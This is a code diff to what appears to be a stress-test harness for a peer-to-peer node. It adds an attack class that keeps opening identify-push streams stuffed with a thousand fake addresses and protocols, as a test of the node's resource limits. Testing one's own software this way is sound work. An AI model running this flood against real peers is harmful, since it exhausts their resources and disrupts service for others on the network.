@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import trio
 
+from p2pboot.wire.identify import IDENTIFY_PROTOCOL
 from p2pboot.wire.multistream import GREETING, encode_line
 from p2pboot.wire.ping import PING_PROTOCOL
+from p2pboot.wire.protobuf import bytes_field
+from p2pboot.wire.varint import encode_varint
 from p2pboot.wire.yamux.frames import (
     DATA,
     PING,
@@ -18,6 +21,7 @@ from p2pboot.wire.yamux.frames import (
 from siege.attack import Attack
 from siege.peer import Peer, first_flight
 
+IDENTIFY_PUSH = "/ipfs/id/push/1.0.0"
 _MESSAGE = 60_000  # bytes of frames that go into one Noise message
 
 
@@ -245,11 +249,33 @@ class IdentifyChurn(Attack):
     async def one(self, number: int) -> None:
         async with self.peer(number) as peer:
             while True:
-                streams = [await peer.open("/ipfs/id/1.0.0") for _ in range(16)]
+                streams = [await peer.open(IDENTIFY_PROTOCOL) for _ in range(16)]
                 await trio.sleep(0.05)
                 for stream in streams:
                     await peer.reset(stream)
                 self.count("streams", 16)
+
+
+class IdentifyPushes(Attack):
+    name = "identify-push"
+    what = "16 connections that say anew who they are, each time with a thousand addresses and protocols"
+    bound = "streams opened by connection and address; what is kept of a peer"
+    shows = "streams"
+    connections, addresses = 16, 2
+
+    async def one(self, number: int) -> None:
+        said = b"".join(
+            bytes_field(2, b"\x04\x7f\0\0\x01\x06" + at.to_bytes(2, "big"))
+            + bytes_field(3, b"/siege/%d" % at)
+            for at in range(1000)
+        )
+        async with self.peer(number) as peer:
+            while True:
+                streams = [await peer.open(IDENTIFY_PUSH, encode_varint(len(said)) + said) for _ in range(16)]
+                await trio.sleep(0.05)
+                for stream in streams:
+                    await peer.reset(stream)
+                self.count("streams", len(streams))
 
 
 ATTACKS = (
@@ -267,4 +293,5 @@ ATTACKS = (
     StreamChurn,
     Guesses,
     IdentifyChurn,
+    IdentifyPushes,
 )
